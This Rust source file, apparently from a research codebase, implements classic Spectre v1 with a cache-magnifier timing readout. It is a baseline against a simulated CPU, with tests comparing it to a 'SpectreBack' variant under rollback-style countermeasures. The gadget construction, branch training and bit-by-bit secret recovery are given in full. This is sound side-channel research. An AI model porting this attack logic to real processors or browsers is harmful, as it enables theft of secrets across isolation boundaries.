//! Classic Spectre v1 with a PLRU-magnifier readout — the leaky.page
//! construction the paper's §6.1 magnifier was repurposed from, implemented
//! as the *baseline* SpectreBack is compared against.
//!
//! Unlike SpectreBack (§7.3), the leak here happens in the conventional
//! direction: the transient, bounds-check-bypassing load warms a
//! secret-selected probe line *after* the bounds check in program order,
//! and the presence/absence of that line is magnified and read through the
//! coarse timer. Rollback-based defences that clean up transient cache
//! state *would* stop this variant — which is exactly why the paper builds
//! the backwards-in-time version.

use crate::layout::Layout;
use crate::machine::Machine;
use crate::magnify::{PlruInput, PlruMagnifier};
use racer_isa::{Asm, Cond, MemOperand, Program};
use racer_mem::Addr;
use racer_time::Timer;

pub use crate::attacks::spectre_back::LeakReport;

/// Driver for the classic Spectre v1 attack.
#[derive(Clone, Debug)]
pub struct SpectreV1 {
    layout: Layout,
    /// In-bounds length of the attacker-visible array.
    pub array_len: u64,
    /// Branch-training iterations per bit.
    pub train_iters: usize,
    /// P/A-magnifier rounds per readout.
    pub magnifier_rounds: usize,
}

/// Gadget inputs on distinct lines of the x-flag region.
#[derive(Copy, Clone, Debug)]
struct Cells {
    x: u64,
    k: u64,
    size: u64,
}

impl SpectreV1 {
    /// A driver with the default geometry.
    pub fn new(layout: Layout) -> Self {
        SpectreV1 {
            layout,
            array_len: 4096,
            train_iters: 4,
            magnifier_rounds: 1000,
        }
    }

    fn cells(&self) -> Cells {
        Cells {
            x: self.layout.x_flag.0,
            k: self.layout.x_flag.0 + 64,
            size: self.layout.x_flag.0 + 128,
        }
    }

    /// The magnifier whose protected line `A` serves as the probe.
    pub fn magnifier(&self) -> PlruMagnifier {
        PlruMagnifier::with(self.layout, 5, self.magnifier_rounds)
    }

    /// Build the gadget:
    ///
    /// ```text
    /// rx  = load [X]; rk = load [K]
    /// rsz = load [SIZE]                   ; flushed → slow resolve
    /// br rx >= rsz → skip                 ; bounds check, trained not-taken
    /// sv  = load [array + rx]             ; out-of-bounds secret read
    /// t   = (((sv >> rk) & 1) << 8)       ; 0 or 256
    /// tv  = load [A - 256 + t]            ; touches A iff the bit is 1
    /// skip: halt
    /// ```
    pub fn program(&self, m: &Machine) -> Program {
        let cells = self.cells();
        let a = self.magnifier().line_a(m);
        let mut asm = Asm::new();
        let rx = asm.reg();
        asm.load(rx, MemOperand::abs(cells.x));
        let rk = asm.reg();
        asm.load(rk, MemOperand::abs(cells.k));
        let rsz = asm.reg();
        asm.load(rsz, MemOperand::abs(cells.size));
        let skip = asm.fwd_label();
        asm.br(Cond::Ge, rx, rsz, skip);
        let sv = asm.reg();
        asm.load(
            sv,
            MemOperand::base_disp(rx, self.layout.array_base.0 as i64),
        );
        let t1 = asm.reg();
        asm.shr(t1, sv, rk);
        let t2 = asm.reg();
        asm.and(t2, t1, 1i64);
        let t3 = asm.reg();
        asm.shl(t3, t2, 8i64);
        let tv = asm.reg();
        asm.load(tv, MemOperand::base_disp(t3, a.0 as i64 - 256));
        asm.bind(skip);
        asm.halt();
        asm.assemble().expect("Spectre v1 gadget assembles")
    }

    /// Plant the victim secret and bounds value.
    pub fn plant_secret(&self, m: &mut Machine, secret: &[u8]) {
        let cells = self.cells();
        m.cpu_mut().mem_mut().write(cells.size, self.array_len);
        for (i, &byte) in secret.iter().enumerate() {
            m.cpu_mut()
                .mem_mut()
                .write(self.layout.secret_base.0 + i as u64 * 8, byte as u64);
        }
    }

    fn train(&self, m: &mut Machine, prog: &Program) {
        let cells = self.cells();
        m.cpu_mut().mem_mut().write(cells.x, 0);
        for addr in [cells.x, cells.k, cells.size] {
            m.warm(Addr(addr));
        }
        for _ in 0..self.train_iters {
            m.flush(self.layout.sync);
            m.run(prog);
        }
    }

    /// Leak `n` secret bytes through `timer`.
    pub fn leak_bytes(&self, m: &mut Machine, n: usize, timer: &mut dyn Timer) -> LeakReport {
        let prog = self.program(m);
        let mag = self.magnifier();
        let cells = self.cells();
        let start_ns = m.elapsed_ns();

        // Calibrate: magnifier readings with A present vs absent.
        mag.prepare(m);
        let absent = m.run_timed(&mag.program(m, PlruInput::PresenceAbsence), timer);
        mag.prepare(m);
        let a = mag.line_a(m);
        m.warm(a);
        let present = m.run_timed(&mag.program(m, PlruInput::PresenceAbsence), timer);
        let threshold = (absent + present) / 2.0;

        let mut recovered = Vec::with_capacity(n);
        for byte_idx in 0..n {
            let mut byte = 0u8;
            for bit in 0..8u32 {
                self.train(m, &prog);
                let x = self.layout.secret_base.0 - self.layout.array_base.0 + byte_idx as u64 * 8;
                m.cpu_mut().mem_mut().write(cells.x, x);
                m.cpu_mut().mem_mut().write(cells.k, bit as u64);
                m.warm(Addr(cells.x));
                m.warm(Addr(cells.k));
                m.warm(Addr(self.layout.array_base.0 + x));
                mag.prepare(m);
                m.flush(Addr(cells.size));
                m.flush(self.layout.sync);
                m.run(&prog);
                let observed = m.run_timed(&mag.program(m, PlruInput::PresenceAbsence), timer);
                if observed > threshold {
                    byte |= 1 << bit; // slow magnifier = A present = bit 1
                }
            }
            recovered.push(byte);
        }
        let elapsed_ns = m.elapsed_ns() - start_ns;
        let bits = n * 8;
        LeakReport {
            recovered,
            bits,
            elapsed_ns,
            kbps: racer_time::stats::leak_rate_kbps(bits as u64, elapsed_ns),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use racer_time::{CoarseTimer, PerfectTimer};

    const SECRET: &[u8] = b"V1!";

    #[test]
    fn leaks_with_perfect_timer() {
        let mut m = Machine::baseline();
        let atk = SpectreV1::new(m.layout());
        atk.plant_secret(&mut m, SECRET);
        let report = atk.leak_bytes(&mut m, SECRET.len(), &mut PerfectTimer);
        assert_eq!(report.recovered, SECRET);
    }

    #[test]
    fn leaks_with_browser_timer() {
        let mut m = Machine::noisy(0xF00);
        let atk = SpectreV1::new(m.layout());
        atk.plant_secret(&mut m, SECRET);
        let mut timer = CoarseTimer::browser_5us();
        let report = atk.leak_bytes(&mut m, SECRET.len(), &mut timer);
        let correct: u32 = report
            .recovered
            .iter()
            .zip(SECRET)
            .map(|(a, b)| 8 - (a ^ b).count_ones())
            .sum();
        assert!(correct as f64 / 24.0 > 0.88, "{:?}", report.recovered);
    }

    /// The §7.3 headline contrast: a CleanupSpec-style defence undoes the
    /// transient fill at squash time. That erases classic v1's probe state
    /// — but SpectreBack's racing gadget consumed the transient timing
    /// difference *before* the squash, so cleaning the state afterwards is
    /// too late ("leak secrets backwards-in-time, to before any
    /// misspeculation is discovered").
    #[test]
    fn rollback_style_defence_blocks_v1_but_not_spectre_back() {
        use crate::attacks::SpectreBack;
        use racer_cpu::Countermeasure;

        let mut m = Machine::baseline();
        m.set_countermeasure(Countermeasure::CleanupSpec);
        let atk = SpectreV1::new(m.layout());
        atk.plant_secret(&mut m, &[0xFF]); // all-ones byte
        let report = atk.leak_bytes(&mut m, 1, &mut PerfectTimer);
        assert_eq!(
            report.recovered,
            vec![0x00],
            "cleanup at squash must blind classic v1 (all bits read as 0)"
        );

        let mut m = Machine::baseline();
        m.set_countermeasure(Countermeasure::CleanupSpec);
        let atk = SpectreBack::new(m.layout());
        atk.plant_secret(&mut m, &[0xA5]);
        let report = atk.leak_bytes(&mut m, 1, &mut PerfectTimer);
        assert_eq!(
            report.recovered,
            vec![0xA5],
            "SpectreBack must leak through the same defence (§7.3)"
        );

        // And invisible-from-the-start speculation blocks both cache paths —
        // the paper's corresponding §8 caveat about strictness ordering.
        let mut m = Machine::baseline();
        m.set_countermeasure(Countermeasure::InvisibleSpec);
        let atk = SpectreBack::new(m.layout());
        atk.plant_secret(&mut m, &[0xFF]);
        let report = atk.leak_bytes(&mut m, 1, &mut PerfectTimer);
        assert_eq!(report.recovered, vec![0x00]);
    }
}
